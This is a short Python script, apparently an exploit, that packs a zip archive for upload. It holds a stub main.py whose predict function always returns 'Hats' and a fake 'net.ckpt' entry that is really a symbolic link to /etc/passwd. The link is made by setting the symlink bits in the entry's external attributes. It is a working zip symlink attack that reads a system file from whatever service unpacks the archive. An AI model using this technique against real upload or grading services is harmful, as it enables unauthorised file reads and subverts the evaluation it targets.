"""Pack the link."""

import sys
import zipfile
from pathlib import Path

folder = Path(sys.argv[1])
archive = folder.with_name(f"{folder.name}.zip")
with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zipped:
    zipped.writestr("main.py", "def predict(image):\n    return 'Hats'\n")
    link = zipfile.ZipInfo("net.ckpt")
    link.external_attr = 0o120777 << 16
    zipped.writestr(link, "/etc/passwd")
